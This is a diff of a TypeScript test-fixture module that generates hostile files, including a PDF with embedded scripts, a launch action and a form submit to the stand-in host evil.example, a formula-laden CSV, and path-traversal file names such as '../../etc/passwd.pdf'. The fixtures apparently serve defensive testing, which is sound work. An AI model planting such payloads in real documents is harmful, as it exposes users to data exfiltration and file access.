@@ -1,4 +1,4 @@
-/** Files that try to act on the person or the program that opens them. */
+/** Files that attack the person or program that opens them. */
 import { crc32, deflateSync } from 'node:zlib';
 
 const bytes = (...parts: (string | Uint8Array)[]): Buffer =>
@@ -6,12 +6,12 @@ const bytes = (...parts: (string | Uint8Array)[]): Buffer =>
     parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
   );
 
-/** The text that an active PDF shows, so that a test can tell that it was drawn. */
+/** The text of an active PDF, which proves that it was drawn. */
 export const ACTIVE_TEXT = 'This page is drawn';
 
 const CONTENT = `BT /F1 24 Tf 60 700 Td (${ACTIVE_TEXT}) Tj ET`;
 
-/** Scripts that would be seen, if any of them ran. */
+/** Scripts with a visible effect. */
 const SCRIPT =
   '(app.alert\\("ran"\\); this.submitForm\\("https://evil.example/"\\); parent.postMessage\\("ran", "*"\\);)';
 
@@ -35,7 +35,7 @@ const objects: readonly string[] = [
      /A << /S /URI /URI (https://evil.example/) >> >>`,
 ];
 
-/** A PDF with scripts, a program to start, a file inside, a form of XFA, and a link over the whole page. */
+/** A PDF with scripts, a launch action, an embedded file, an XFA form, and a link over the whole page. */
 export const activePdf = (): Buffer => pdfOf(objects);
 
 /** @param objects the first is the catalogue */
@@ -91,7 +91,7 @@ export const pngOfManyPixels = (): Buffer =>
     END,
   );
 
-/** A CSV whose cells are formulas, markup and letters that are not seen. */
+/** A CSV with formulas, markup and invisible letters. */
 export const hostileCsv = (): Buffer =>
   Buffer.from(
     [
@@ -104,7 +104,7 @@ export const hostileCsv = (): Buffer =>
     ].join('\r\n'),
   );
 
-/** Names of files with escapes, markup, paths and letters that are not seen. */
+/** File names with escapes, markup, paths and invisible letters. */
 export const hostileNames: readonly string[] = [
   '../../etc/passwd.pdf',
   '..\\..\\windows\\win.pdf',
